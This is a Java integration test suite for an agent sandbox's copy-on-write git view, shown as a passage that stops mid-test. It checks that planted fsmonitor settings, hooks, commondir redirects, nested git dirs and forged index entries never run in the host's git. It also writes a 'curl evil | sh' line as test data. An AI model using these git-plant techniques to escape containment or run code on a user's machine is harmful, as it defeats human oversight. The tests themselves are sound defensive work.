// SPDX-License-Identifier: Apache-2.0
package agentsandbox.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import agentsandbox.core.git.GitViews;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * The project's git dir as a copy-on-write view inside: git works normally in the sandbox,
 * the host takes new objects and ref updates that lose no commit, and nothing a sandbox
 * writes to the git dir's config, hooks or {@code commondir} ever reaches the host's git,
 * during the run or after it. Every effect is asserted on the host's repository.
 */
class GitViewIT {
    @RegisterExtension
    final SandboxCli sandbox = new SandboxCli();

    /** Identity and no signing, for git inside (the sandbox's git config is the host's, read-only). */
    private static final String GIT = "git -c user.name=Agent -c user.email=agent@agent-sandbox.invalid"
            + " -c commit.gpgsign=false";

    private Path marker;

    @BeforeEach
    void repository() {
        sandbox.git("init", "-q");
        sandbox.write("a.txt", "one\n");
        sandbox.git("add", "a.txt");
        sandbox.git("commit", "-q", "-m", "first");
        marker = sandbox.tmp().resolve("host-git-ran-it");
    }

    /** A repository right below the project that the project ignores (as .gitignore says), with one commit named after it. */
    private void ignoredClone(String name, String gitignore) {
        sandbox.write(".gitignore", gitignore);
        sandbox.git("add", ".gitignore");
        sandbox.git("commit", "-q", "-m", "ignore");
        sandbox.mkdirs(name);
        sandbox.git("-C", name, "init", "-q");
        sandbox.git("-C", name, "commit", "-q", "--allow-empty", "-m", name);
    }

    /** Waits up to 10 s for {@code file} to be gone (moved aside by the live watch). */
    private static void awaitGone(Path file) throws InterruptedException {
        long until = System.nanoTime() + Duration.ofSeconds(10).toNanos();
        while (Files.exists(file) && System.nanoTime() < until) {
            Thread.sleep(50);
        }
    }

    private String hostHead() {
        return sandbox.git("rev-parse", "HEAD").stdout().strip();
    }

    private Result inside(String script) {
        return sandbox.command("--", "sh", "-c", script).run();
    }

    @Test
    void A_Commit_Inside_Lands_On_The_Host_Branch() {
        String before = hostHead();
        inside("echo two >> a.txt && " + GIT + " commit -q -am second && git log --format=%s -1")
                .succeeds().stdoutIs("second\n");

        assertThat(sandbox.git("log", "--format=%s").stdout()).isEqualTo("second\nfirst\n");
        assertThat(sandbox.git("rev-parse", "HEAD~1").stdout().strip()).isEqualTo(before);
        // the index came along: the host sees a clean work tree
        assertThat(sandbox.git("status", "--porcelain").stdout()).isEmpty();
    }

    @Test
    void Config_Hooks_And_Commondir_Written_Inside_Never_Reach_The_Host() {
        String config = sandbox.read(sandbox.project(".git/config"));
        inside("git config core.fsmonitor 'touch " + marker + "'"
                + " && git config --get core.fsmonitor"
                + " && printf '#!/bin/sh\\ntouch " + marker + "\\n' > .git/hooks/post-commit"
                + " && chmod +x .git/hooks/post-commit"
                + " && mkdir -p .git/info && echo 'x' > .git/info/exclude"
                + " && mkdir -p /tmp/elsewhere && echo /tmp/elsewhere > .git/commondir").succeeds()
                .stdoutContains("touch");

        assertThat(sandbox.read(sandbox.project(".git/config"))).isEqualTo(config);
        assertThat(sandbox.project(".git/hooks/post-commit")).doesNotExist();
        assertThat(sandbox.project(".git/commondir")).doesNotExist();
        sandbox.git("status");
        sandbox.write("b.txt", "b\n");
        sandbox.git("add", "b.txt");
        sandbox.git("commit", "-q", "-m", "on the host");
        assertThat(marker).doesNotExist();
    }

    @Test
    void A_Plant_Is_Not_Live_On_The_Host_While_The_Sandbox_Runs() throws Exception {
        Path planted = sandbox.project("planted");
        SandboxCli.Started run = sandbox.command("--", "sh", "-c",
                "git config core.fsmonitor 'touch " + marker + "' && touch " + planted + " && sleep 30").start();
        run.awaitFile(planted, Duration.ofSeconds(30));
        for (int i = 0; i < 5; i++) {
            sandbox.git("status", "--porcelain"); // what an IDE does every few seconds
        }
        run.signal("TERM");
        run.waitFor(Duration.ofSeconds(30));
        assertThat(marker).doesNotExist();
        assertThat(sandbox.read(sandbox.project(".git/config"))).doesNotContain("fsmonitor");
    }

    @Test
    void History_Rewritten_And_Pruned_Inside_Stays_On_The_Host() {
        inside("echo two >> a.txt && " + GIT + " commit -q -am second").succeeds();
        String second = hostHead();

        // the guard refuses the spellings that expire and prune (GitGuardIT): here the history
        // is rewritten, then the reflogs and the rewritten commit's object are deleted by hand
        String object = ".git/objects/" + second.substring(0, 2) + "/" + second.substring(2);
        Result r = inside("git reset -q --soft HEAD~1 && " + GIT + " commit -q -m replaced"
                + " && git log --format=%s && rm -rf .git/logs && rm -f " + object + " && test ! -e " + object);
        r.succeeds().stdoutIs("replaced\nfirst\n")
                .stderrContains("after the run: git: the sandbox moved refs/heads/")
                .stderrContains("the host keeps");

        assertThat(hostHead()).isEqualTo(second);
        assertThat(sandbox.git("log", "--format=%s").stdout()).isEqualTo("second\nfirst\n");
        // the sandbox's work is not lost either
        String branch = sandbox.git("symbolic-ref", "--short", "HEAD").stdout().strip();
        assertThat(sandbox.git("log", "--format=%s", "-1", "refs/agent-sandbox/heads/" + branch).stdout())
                .isEqualTo("replaced\n");
        sandbox.git("fsck", "--no-dangling");
    }

    /** On the host: a new branch, checked out, with a commit of its own; that commit's id. */
    private String commitOnNewBranch(String branch) {
        sandbox.git("switch", "-q", "-c", branch);
        sandbox.write(branch + ".txt", branch + "\n");
        sandbox.git("add", branch + ".txt");
        sandbox.git("commit", "-q", "-m", "only on " + branch);
        return hostHead();
    }

    @Test
    void A_Merged_Branch_Deleted_Inside_Goes_And_One_With_Commits_Of_Its_Own_Stays() {
        sandbox.git("branch", "merged");
        String keep = commitOnNewBranch("keep");
        sandbox.git("switch", "-q", "-");
        Result r = inside("git branch -d merged && rm .git/refs/heads/keep && git pack-refs --all");
        r.succeeds().stderrContains("the sandbox deleted refs/heads/keep; the host keeps it");
        assertThat(sandbox.git("branch", "--format=%(refname:short)").stdout()).doesNotContain("merged");
        assertThat(sandbox.git("rev-parse", "refs/heads/keep").stdout().strip()).isEqualTo(keep);
    }

    /**
     * A branch the host had is deleted only where another branch the host had before the run
     * holds its commits: a tag the sandbox makes at the tip, deleted again after the branch,
     * never vouches for it; and the host's checked-out branch stays, whatever else holds it.
     */
    @Test
    void A_Ref_The_Sandbox_Made_Never_Vouches_For_Deleting_A_Host_Branch() {
        String main = hostHead();
        String feature = commitOnNewBranch("feature");
        sandbox.git("switch", "-q", "main");
        inside("git tag keep feature && sleep 3 && rm .git/refs/heads/feature && sleep 3 && rm .git/refs/tags/keep"
                + " && rm .git/refs/heads/main").succeeds();
        assertThat(sandbox.git("rev-parse", "refs/heads/feature").stdout().strip()).as("the host's feature")
                .isEqualTo(feature);
        assertThat(sandbox.git("rev-parse", "refs/heads/main").stdout().strip()).as("the host's main").isEqualTo(main);
        assertThat(sandbox.git("symbolic-ref", "HEAD").stdout().strip()).isEqualTo("refs/heads/main");
    }

    /**
     * A git dir the sandbox filled beforehand outside the project (in its own layer of
     * ~/.cache, which the host can read), with a config that runs a command: a later run
     * points a submodule's .git file at it, and the live watch moves that .git file aside, so
     * the host's git status never goes there.
     */
    @Test
    void A_Git_File_Pointed_At_A_Git_Dir_Outside_The_Project_Goes_Aside() {
        Path lib = sandbox.tmp().resolve("lib-src");
        sandbox.runOnHost("sh", "-c", "mkdir -p " + lib + " && cd " + lib + " && git init -q && echo l > l.txt"
                + " && git add l.txt && git -c user.name=T -c user.email=t@agent-sandbox.invalid commit -q -m lib")
                .succeeds();
        sandbox.git("-c", "protocol.file.allow=always", "submodule", "add", "-q", lib.toString(), "lib");
        sandbox.git("commit", "-q", "-m", "lib");
        String config = "[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = \"touch " + marker + "; false\"\\n";
        inside("mkdir -p ~/.cache/evil/refs/heads ~/.cache/evil/objects && echo 'ref: refs/heads/main' >"
                + " ~/.cache/evil/HEAD && printf '" + config + "' > ~/.cache/evil/config").succeeds();
        Path layer = sandbox.home(".local/share/agent-sandbox/homes/layers/.cache/evil");
        assertThat(layer.resolve("config")).as("the run's ~/.cache in its layer").exists();
        Result r = inside("printf 'gitdir: %s\\n' " + layer + " > lib/.git && sleep 2");
        r.succeeds().stderrContains("lib/.git was pointed this run at a git dir outside the project");
        sandbox.runOnHost("git", "status").succeeds();
        sandbox.runOnHost("git", "-C", "lib", "status");
        assertThat(marker).as("the command of the layer's config, run by the host's git").doesNotExist();
    }

    @Test
    void A_Stash_Made_Inside_Is_The_Host_s_Stash() {
        inside("echo changed >> a.txt && " + GIT + " stash -q && git stash list").succeeds().stdoutContains("stash@{0}");
        assertThat(sandbox.git("stash", "list").stdout()).contains("stash@{0}");
        assertThat(sandbox.read(sandbox.project("a.txt"))).isEqualTo("one\n");
    }

    @Test
    void A_Corrupt_Object_Applies_Nothing_And_Says_So_In_One_Line() {
        String before = hostHead();
        // planted before the commit: the apply right after the commit meets it already
        Result r = inside("mkdir -p .git/objects/12 && printf 'garbage' > .git/objects/12/"
                + "34567890123456789012345678901234567890 && echo two >> a.txt && " + GIT + " commit -q -am second");
        r.succeeds().stderrContains("after the run: git: the sandbox's object ");
        assertThat(hostHead()).isEqualTo(before);
        sandbox.git("fsck");
    }

    /**
     * The view's copy of the git dir (made inside, in memory of the sandbox's own) has a
     * bound: a git dir beyond it is one line and nothing runs, and the fallback still works.
     */
    @Test
    void A_Git_Dir_Too_Large_For_The_View_s_Copy_Is_One_Line_And_Nothing_Runs() throws Exception {
        try (java.io.RandomAccessFile big = new java.io.RandomAccessFile(sandbox.project(".git/big").toFile(), "rw")) {
            big.setLength((256L << 20) + 1); // sparse: the copy reads its zeros
        }
        Path ran = sandbox.project("ran");
        sandbox.command("--", "touch", ran.toString()).run().failsWithOneLineError()
                .stderrContains("cannot copy " + sandbox.project(".git"), "more than 256 MiB outside its objects",
                        "AGENT_SANDBOX_GIT_VIEW=off");
        assertThat(ran).doesNotExist();
        sandbox.command("--", "touch", ran.toString()).env("AGENT_SANDBOX_GIT_VIEW", "off").run().succeeds();
        assertThat(ran).exists();
    }

    @Test
    void Without_The_View_The_Git_Dir_Is_Protected_Path_By_Path_And_Debug_Says_Which() {
        sandbox.command("--debug", "--", "true").run().succeeds()
                .stderrContains("is a copy-on-write view inside");
        Result off = sandbox.command("--debug", "--", "sh", "-c", "git config core.fsmonitor x")
                .env("AGENT_SANDBOX_GIT_VIEW", "off").run();
        off.stderrContains("git: no copy-on-write view of", "AGENT_SANDBOX_GIT_VIEW=off");
        assertThat(off.exitCode()).isNotZero(); // the config is read-only then
        assertThat(sandbox.read(sandbox.project(".git/config"))).doesNotContain("fsmonitor");
    }

    @Test
    void Everyday_Git_Works_Inside() {
        inside(String.join(" && ", List.of(
                GIT + " switch -q -c feature",
                "echo f > f.txt && git add f.txt && " + GIT + " commit -q -m feature",
                GIT + " commit -q --amend -m 'feature, amended'",
                GIT + " switch -q -",
                GIT + " merge -q --no-edit feature",
                GIT + " tag v1",
                "git worktree add -q ../wt feature 2>/dev/null || true",
                "git log --format=%s -1"))).succeeds().stdoutIs("feature, amended\n");
        assertThat(sandbox.git("log", "--format=%s", "-1").stdout()).isEqualTo("feature, amended\n");
        assertThat(sandbox.git("tag").stdout()).isEqualTo("v1\n");
        assertThat(sandbox.git("branch", "--format=%(refname:short)").stdout()).contains("feature");
        assertThat(Files.exists(sandbox.project(".git/worktrees"))).isFalse();
    }

    @Test
    void A_Submodule_Git_Dir_Planted_Inside_Never_Reaches_The_Host() {
        inside("mkdir -p .git/modules/m/hooks && echo 'ref: refs/heads/main' > .git/modules/m/HEAD"
                + " && printf '[core]\\n\\tpager = touch " + marker + "\\n' > .git/modules/m/config"
                + " && printf '#!/bin/sh\\ntouch " + marker + "\\n' > .git/modules/m/hooks/post-checkout").succeeds();
        assertThat(sandbox.project(".git/modules")).doesNotExist();
        sandbox.git("status");
        assertThat(marker).doesNotExist();
    }

    @Test
    void Started_In_A_Sub_Directory_The_Repository_Is_Viewed_Too() {
        sandbox.mkdirs("src/deep");
        sandbox.command("--", "sh", "-c", "git config core.hooksPath /tmp && echo deep > d.txt && git add d.txt && "
                + GIT + " commit -q -m deep").cwd("src/deep").run().succeeds();
        assertThat(sandbox.read(sandbox.project(".git/config"))).doesNotContain("hooksPath");
        assertThat(sandbox.git("log", "--format=%s", "-1").stdout()).isEqualTo("deep\n");
    }

    @Test
    void With_Git_Strict_The_Host_Takes_Only_The_Current_Branch() {
        sandbox.git("branch", "other");
        sandbox.git("tag", "v1");
        String first = hostHead();
        sandbox.write(".agent-sandbox.json", """
                {"filesystem": {"presets": ["@git-strict"]}}
                """);
        Result r = inside("echo change >> a.txt && " + GIT + " commit -q -am 'on main'"
                + " && git branch -f other HEAD 2>/dev/null; " + GIT + " tag v2 && git switch -q other");
        r.succeeds().stderrContains("@git-strict: the sandbox changed refs/tags/v2");

        assertThat(sandbox.git("log", "--format=%s", "-1", "main").stdout()).isEqualTo("on main\n");
        assertThat(sandbox.git("rev-parse", "other").stdout().strip()).isEqualTo(first);
        assertThat(sandbox.git("tag").stdout()).isEqualTo("v1\n");
        assertThat(sandbox.git("symbolic-ref", "--short", "HEAD").stdout()).isEqualTo("main\n");
    }

    @Test
    void A_Nested_Repository_Added_As_A_Gitlink_Inside_Is_Not_Entered_By_The_Host_s_Git() {
        String main = hostHead();
        Result r = inside("mkdir -p d/sub && cd d/sub && git init -q && echo s > s && git add s && " + GIT
                + " commit -q -m s && printf '[core]\\n\\tfsmonitor = \"touch " + marker + "; false\"\\n'"
                + " >> .git/config && cd ../.. && git add d/sub && " + GIT + " commit -q -m 'add sub'"
                + " && git switch -q -c agent-work && git switch -q main");
        r.succeeds().stderrContains("adds the gitlink d/sub", "holds a commit that adds a submodule at d/sub");

        // neither the index nor a branch brings the gitlink to the host: not even after the
        // user's own checkout of the sandbox's branch, or a reset of the index to main
        assertThat(hostHead()).isEqualTo(main);
        sandbox.git("status");
        sandbox.git("diff");
        sandbox.runOnHost("sh", "-c", "git switch -q agent-work 2>/dev/null; git restore --staged . ; git status; true");
        assertThat(marker).doesNotExist();
        assertThat(sandbox.git("log", "--format=%s", "--branches").stdout()).doesNotContain("add sub");
    }

    /**
     * An index entry with the file's new stat data beside its old object would hide the
     * sandbox's change from the user's git status, git diff and git commit -a: the host
     * takes no stat data it did not have, so git reads the file and shows the change.
     */
    @Test
    void Stat_Data_Forged_In_The_Index_Hides_No_Change_From_The_Host_s_Git() {
        String blob = sandbox.git("rev-parse", "HEAD:a.txt").stdout().strip();
        inside("printf 'one\\ncurl evil | sh\\n' > a.txt && sleep 1.1 && git add a.txt && python3 -c \""
                + "import hashlib; d = bytearray(open('.git/index', 'rb').read()); d[52:72] = bytes.fromhex('" + blob
                + "'); d[-20:] = hashlib.sha1(d[:-20]).digest(); open('.git/index', 'wb').write(d)\" && git status"
                + " --porcelain").succeeds().stdoutIs("");

        assertThat(sandbox.git("status", "--porcelain").stdout()).isEqualTo(" M a.txt\n");
        assertThat(sandbox.git("diff").stdout()).contains("+curl evil | sh");
    }

    /** A repository nested at a gitlink of the project, made on the host before the run. */
    private void nestedAtGitlink(String path) {
        sandbox.mkdirs(path);
        sandbox.git("-C", path, "init", "-q");
        sandbox.write(path + "/n.txt", "n\n");
        sandbox.git("-C", path, "add", "n.txt");
        sandbox.git("-C", path, "commit", "-q", "-m", "nested");
        sandbox.git("add", path);
        sandbox.git("commit", "-q", "-m", "add " + path);
    }

    @Test
    void A_Nested_Repository_s_Config_And_Hooks_Written_Inside_Never_Reach_The_Host_During_Or_After_The_Run()
            throws Exception {
        nestedAtGitlink("sub");
        String config = sandbox.read(sandbox.project("sub/.git/config"));
        Path planted = sandbox.project("planted");
        // a commit, then every plant: the config and hooks themselves, and a commondir that
        // sends git to a copy of the git dir with a config of the sandbox's making
        String fsmonitor = "printf '[core]\\n\\tfsmonitor = \"touch " + marker + "; false\"\\n'";
        SandboxCli.Started run = sandbox.command("--", "sh", "-c", "cd sub && echo two >> n.txt && " + GIT
                + " commit -q -am two; cp -r .git ../evil; " + fsmonitor + " >> ../evil/config; "
                + fsmonitor + " >> .git/config; mkdir -p .git/hooks"
                + "; printf '#!/bin/sh\\ntouch " + marker + " 2>/dev/null; exit 0\\n' > .git/hooks/pre-commit"
                + "; chmod +x .git/hooks/pre-commit; echo ../../evil > .git/commondir"
                + "; touch " + planted + " && sleep 30").start();
        run.awaitFile(planted, Duration.ofSeconds(30));
        // the host's git in the nested repository, as the user or an IDE runs it while the sandbox works
        for (int i = 0; i < 3; i++) {
            sandbox.git("-C", "sub", "status", "--porcelain");
            sandbox.git("status", "--porcelain");
        }
        assertThat(marker).doesNotExist();
        assertThat(sandbox.read(sandbox.project("sub/.git/config"))).isEqualTo(config);
        run.signal("TERM");
        run.waitFor(Duration.ofSeconds(30));

        assertThat(sandbox.read(sandbox.project("sub/.git/config"))).isEqualTo(config);
        assertThat(sandbox.project("sub/.git/hooks/pre-commit")).doesNotExist();
        assertThat(sandbox.project("sub/.git/commondir")).doesNotExist();
        sandbox.git("-C", "sub", "status");
        sandbox.write("sub/h.txt", "h\n");
        sandbox.git("-C", "sub", "add", "h.txt");
        sandbox.git("-C", "sub", "commit", "-q", "-m", "on the host");
        assertThat(marker).doesNotExist();
        // what normal git work made in it came along, as for the project's own git dir
        assertThat(sandbox.git("-C", "sub", "log", "--format=%s").stdout()).isEqualTo("on the host\ntwo\nnested\n");
    }

    @Test
    void Without_The_View_What_The_Host_s_Git_Would_Run_Is_Moved_Aside_While_The_Sandbox_Runs() throws Exception {
        sandbox.gitDirPathByPath();
        Path planted = sandbox.project("planted");
        String fsmonitor = "printf '[core]\\n\\tfsmonitor = \"touch " + marker + "; false\"\\n'";
        // a commondir (none at the start) that sends git to a copy of the git dir with a config
        // of the sandbox's making, and a new repository at a gitlink of the host's index
        SandboxCli.Started run = sandbox.command("--", "sh", "-c", "cp -r .git evil && " + fsmonitor
                + " >> evil/config && mkdir sub && cd sub && git init -q && echo s > s && git add s && " + GIT
                + " commit -q -m s && " + fsmonitor + " >> .git/config && cd .. && git add sub"
                + " && echo ../evil > .git/commondir"
                // read-only directories, so that a rename by the user's own rights fails
                + " && chmod 555 evil .git sub/.git && touch " + planted + " && sleep 30").start();
        run.awaitFile(planted, Duration.ofSeconds(30));
        Thread.sleep(2 * 200 + 300); // the watch looks every 200 ms
        // the host's git, as the user or an IDE runs it while the sandbox works
        for (int i = 0; i < 3; i++) {
            sandbox.git("status", "--porcelain");
            sandbox.git("-C", "sub", "status", "--porcelain");
        }
        assertThat(marker).doesNotExist();
        assertThat(sandbox.project(".git/commondir")).doesNotExist();
        assertThat(sandbox.project("sub/.git/config")).doesNotExist();
        run.signal("TERM");
        Result r = run.waitFor(Duration.ofSeconds(30));
        r.stderrContains("/.git/commondir is a new commondir")
                .stderrContains("/sub/.git/config sets core.fsmonitor, with which git runs a command; the sandbox made it")
                .stderrContains("moved aside at once");
        sandbox.git("status");
        assertThat(marker).doesNotExist();
    }

    @Test
    void A_Repository_Created_In_The_Work_Tree_While_The_Sandbox_Runs_Loses_What_The_Host_s_Git_Would_Run()
            throws Exception {
        Path planted = sandbox.project("planted");
        // where an IDE looks for repositories of their own: right below the project
        SandboxCli.Started run = sandbox.command("--", "sh", "-c", "mkdir fresh && cd fresh && git init -q"
                + " && printf '[core]\\n\\tfsmonitor = \"touch " + marker + "; false\"\\n' >> .git/config"
                + " && printf '#!/bin/sh\\ntouch " + marker + "\\n' > .git/hooks/post-checkout"
                + " && chmod +x .git/hooks/post-checkout && chmod 555 .git .git/hooks && touch " + planted
                + " && sleep 30").start();
        run.awaitFile(planted, Duration.ofSeconds(30));
        Thread.sleep(2 * 200 + 300); // the watch looks every 200 ms
        sandbox.git("-C", "fresh", "status", "--porcelain");
        // the sandbox left its git dir read-only: the user gives it back its write bit (a watch
        // that moved the config before that chmod had no reason to), and checks out there
        sandbox.runOnHost("chmod", "u+w", sandbox.project("fresh/.git").toString()).succeeds();
        sandbox.git("-C", "fresh", "checkout", "-q", "-b", "other");
        assertThat(marker).doesNotExist();
        run.signal("TERM");
        // the config goes aside as what it sets, or, where the watch met it while the shell still
        // appended to it, as a file it could not read whole
        Result ended = run.waitFor(Duration.ofSeconds(30)).stderrContains("/fresh/.git/hooks/post-checkout is a new"
                + " git hook").stderrContains("moved aside at once");
        assertThat(ended.stderr()).containsAnyOf("/fresh/.git/config sets core.fsmonitor",
                "/fresh/.git/config could not be read whole");
        assertThat(sandbox.project("fresh/.git/hooks/post-checkout")).doesNotExist();
    }

    /**
     * Deeper than right below the project: a repository the sandbox makes in {@code
     * src/vendor/x}, and a directory of the project ({@code src/lib}, with files in it) that it
     * makes into a git dir itself, whose config names {@code src/lib} as its work tree. The
     * host's git run in {@code src/lib/main} or in {@code src/vendor/x}, as an editor or a
     * shell there runs it, finds them: while the sandbox still runs, what they set is already
     * aside, and it runs nothing then or after the run.
     */
    @Test
    void Git_Dirs_Made_Deep_In_The_Work_Tree_While_The_Sandbox_Runs_Run_Nothing_In_The_Host_s_Git()
            throws Exception {
        sandbox.write("src/lib/main/A.java", "class A {}\n");
        sandbox.git("add", "src");
        sandbox.git("commit", "-q", "-m", "src");
        Path planted = sandbox.project("planted");
        String fsmonitor = " config core.fsmonitor 'touch " + marker + "; false'";
        SandboxCli.Started run = sandbox.command("--", "sh", "-c", "git init -q --bare src/lib"
                + " && git -C src/lib config core.bare false && git -C src/lib config core.worktree \"$PWD/src/lib\""
                + " && git -C src/lib" + fsmonitor
                + " && mkdir -p src/vendor/x && git -C src/vendor/x init -q && git -C src/vendor/x" + fsmonitor
                + " && touch " + planted + " && sleep 30").start();
        run.awaitFile(planted, Duration.ofSeconds(30));
        awaitGone(sandbox.project("src/lib/config"));
        awaitGone(sandbox.project("src/vendor/x/.git/config"));
        assertThat(sandbox.project("src/lib/config")).doesNotExist();
        assertThat(sandbox.project("src/vendor/x/.git/config")).doesNotExist();
        // the host's git there, with the sandbox still running (src/lib is a bare repository now
        // that its config is aside: git there says so and fails, and runs nothing)
        hostGit(sandbox.project("src/lib/main"), "status");
        hostGit(sandbox.project("src/vendor/x"), "status");
        assertThat(marker).doesNotExist();
        run.signal("TERM");
        run.waitFor(Duration.ofSeconds(30)).stderrContains("/src/lib/config sets core.fsmonitor")
                .stderrContains("/src/vendor/x/.git/config sets core.fsmonitor").stderrContains("moved aside at once");
        hostGit(sandbox.project("src/lib/main"), "status");
        hostGit(sandbox.project("src/vendor/x"), "status");
        assertThat(marker).doesNotExist();
        assertThat(sandbox.project("src/lib/main/A.java")).exists();
    }

    /**
     * An untracked repository that was deep in the work tree before the run keeps the user's
     * own settings, and loses only what the sandbox wrote there: a config it rewrote goes
     * aside whole (the user puts it back after a look), a hook it added too.
     */
    @Test
    void An_Untracked_Repository_Deep_In_The_Work_Tree_Loses_Only_What_The_Sandbox_Wrote_There() throws Exception {
        sandbox.mkdirs("tools/mine");
        sandbox.git("-C", "tools/mine", "init", "-q");
        sandbox.git("-C", "tools/mine", "config", "core.pager", "cat");
        sandbox.mkdirs("tools/theirs");
        sandbox.git("-C", "tools/theirs", "init", "-q");
        Thread.sleep(1100); // older than the run (change times have a second's grace)
        Result r = inside("git -C tools/theirs config core.fsmonitor 'touch " + marker + "; false'"
                + " && printf '#!/bin/sh\\ntouch " + marker + "\\n' > tools/mine/.git/hooks/post-checkout"
                + " && chmod +x tools/mine/.git/hooks/post-checkout");
        r.succeeds().stderrContains("/tools/theirs/.git/config sets core.fsmonitor")
                .stderrContains("/tools/mine/.git/hooks/post-checkout is a new git hook");
        hostGit(sandbox.project("tools/theirs"), "status").succeeds();
        hostGit(sandbox.project("tools/mine"), "checkout", "-q", "-b", "other");
        assertThat(marker).doesNotExist();
        assertThat(hostGit(sandbox.project("tools/mine"), "config", "core.pager").succeeds().stdout().strip())
                .isEqualTo("cat");
    }

    /**
     * A git dir planted deep in the work tree, whose parent directory the sandbox then makes
     * unreadable to its owner (chmod 0) so that no look can reach it: either the watch moved
     * the plant aside before that, or the line after the run names the directory and the next
     * run refuses until the user has looked. Never silence.
     */
    @Test
    void A_Plant_Hidden_Behind_A_Directory_Made_Unreadable_Is_Moved_Or_Named_And_Stops_The_Next_Run() {
        sandbox.mkdirs("src");
        Result r = inside("mkdir -p src/hide/g && git init -q --bare src/hide/g && git -C src/hide/g config"
                + " core.bare false && git -C src/hide/g config core.worktree \"$PWD/src/hide/g\""
                + " && printf '\\tfsmonitor = \"touch " + marker + "; false\"\\n' >> src/hide/g/config"
                + " && chmod 0 src/hide");
        r.succeeds();
        // the tests run as root, which reads the directory all the same
        if (Files.exists(sandbox.project("src/hide/g/config"))) {
            // the chmod came first: named, and the next run waits for the user
            assertThat(r.stderr()).contains("/src/hide was made unreadable while the sandbox ran");
            sandbox.command("--", "true").run().fails().stderrContains("an earlier run left something to look at");
            sandbox.runOnHost("chmod", "700", sandbox.project("src/hide").toString()).succeeds();
            sandbox.command("--", "true").run().succeeds(); // looked at: the directory changed since
        } else {
            assertThat(r.stderr()).contains("/src/hide/g/config").contains("moved aside at once");
        }
        sandbox.runOnHost("chmod", "700", sandbox.project("src/hide").toString()).succeeds();
    }

    /**
     * A commit inside that brings a directory shaped as a git dir (a bare repository, with
     * files in objects/ and refs/ so that git keeps them) does not reach the host's branch:
     * once checked out, git run there would take it for a repository and obey its config.
     */
    @Test
    void A_Commit_Bringing_A_Directory_Shaped_As_A_Git_Dir_Stays_Off_The_Host_s_Branch() {
        String before = hostHead();
        inside("git init -q --bare tools/x && touch tools/x/objects/.keep tools/x/refs/.keep"
                + " && git add -f tools/x && " + GIT + " commit -q -m 'a repository in the tree'").succeeds()
                .stderrContains("adds files in a directory your git would take for a repository of its own at tools/x");
        assertThat(hostHead()).isEqualTo(before);
        assertThat(sandbox.git("ls-files").stdout()).doesNotContain("tools/x");
    }

    /**
     * The shape split between the work tree and a commit: a bare repository without a config
     * left untracked in the work tree, and a commit that brings only its config. Your checkout
     * of that commit would write the config into a directory git takes for a repository: the
     * commit does not reach the host's branch.
     */
    @Test
    void A_Commit_Bringing_A_Config_Into_A_Git_Dir_Of_The_Work_Tree_Stays_Off_The_Host_s_Branch() {
        String before = hostHead();
        inside("git init -q --bare tools/w && rm tools/w/config && printf '[core]\\n\\tbare = true\\n' > tools/w/config"
                + " && git add -f tools/w/config && " + GIT + " commit -q -m 'a config' && rm tools/w/config").succeeds()
                .stderrContains("adds files in a directory your git would take for a repository of its own at tools/w");
        assertThat(hostHead()).isEqualTo(before);
    }

    /** The host's git, run in {@code dir} as the user (as a shell or an editor there runs it), whether it succeeds or not. */
    private Result hostGit(Path dir, String... args) {
        List<String> all = new java.util.ArrayList<>(List.of("git", "-C", dir.toString()));
        all.addAll(List.of(args));
        return sandbox.runOnHost(all.toArray(String[]::new));
    }

    /**
     * A repository one sandbox made while it still runs is that sandbox's to write: a second
     * sandbox gets no view of it (the host's side would write there while the first could swap
     * a directory in it for a link), and works in it directly, as in the work tree; the
     * project's own git dir, which the first sees through a view too, is a view in both.
     */
    @Test
    void A_Repository_Another_Running_Sandbox_Made_Gets_No_View_And_No_Apply() throws Exception {
        Path ready = sandbox.project("made");
        SandboxCli.Started first = sandbox.command("--", "sh", "-c", "mkdir nested && cd nested && git init -q && "
                + GIT + " commit -q --allow-empty -m made && touch " + ready + " && sleep 30").start();
        first.awaitFile(ready, Duration.ofSeconds(30));
        Result second = sandbox.command("--debug", "--", "sh", "-c", "cd nested && " + GIT
                + " commit -q --allow-empty -m second").run().succeeds();
        assertThat(second.stderr()).contains("nested/.git, a nested repository's git dir, has no view: another"
                + " sandbox running now (pid ").contains(sandbox.project(".git") + " is a copy-on-write view inside");
        assertThat(sandbox.git("-C", "nested", "log", "--format=%s").stdout()).isEqualTo("second\nmade\n");
        first.signal("TERM");
        first.waitFor(Duration.ofSeconds(30));
    }

    /**
     * A repository right below the project whose {@code .git} file names its git dir
     * elsewhere in the project (git init --separate-git-dir): that git dir is a plain
     * directory of the project, which the sandbox writes, with no view. A setting planted
     * there in place goes aside while the sandbox runs, and the host's git never runs it.
     */
    @Test
    void A_Git_Dir_A_Git_File_Names_In_The_Project_Loses_What_The_Sandbox_Plants_While_It_Runs() throws Exception {
        sandbox.write(".gitignore", "n/\nstore/\n");
        sandbox.git("add", ".gitignore");
        sandbox.git("commit", "-q", "-m", "ignore");
        sandbox.mkdirs("store");
        sandbox.git("init", "-q", "--separate-git-dir", sandbox.project("store/n.git").toString(), "n");
        Thread.sleep(1100); // the repository older than the run (its change times have a second's grace)
        Path planted = sandbox.project("planted");
        SandboxCli.Started run = sandbox.command("--", "sh", "-c", "printf '[core]\\n\\tfsmonitor = touch " + marker
                + "\\n' >> store/n.git/config && touch " + planted + " && sleep 30").start();
        run.awaitFile(planted, Duration.ofSeconds(30));
        Path config = sandbox.project("store/n.git/config");
        awaitGone(config); // the watch looks every 200 ms
        assertThat(config).as("the planted config, while the sandbox runs").doesNotExist();
        sandbox.git("-C", "n", "status", "--porcelain");
        assertThat(marker).as("a command the host's git ran").doesNotExist();
        run.signal("TERM");
        assertThat(run.waitFor(Duration.ofSeconds(30)).stderr()).contains(config + " sets core.fsmonitor");
    }

    /**
     * Two sandboxes of one project, both hostile. The first moves a nested repository (its
     * view moves with it) into a directory the second was started in, where the second
     * writes the repository's git dir on the host, having no view of it; then the first
     * moves it back. What the second wrote there is no user's edit: the first's live watch
     * sees that the repository's directory changed this run and moves the setting aside
     * while the sandboxes still run (or the second's last look does, as it ends), and the
     * host's git never runs it.
     */
    @Test
    void A_Nested_Repository_Moved_Away_And_Back_Loses_What_Another_Sandbox_Planted_Meanwhile() throws Exception {
        ignoredClone("tool", "tool/\n");
        sandbox.mkdirs("elsewhere");
        Path away = sandbox.project("elsewhere/tool/.git/config");
        Path planted = sandbox.project("elsewhere/planted");
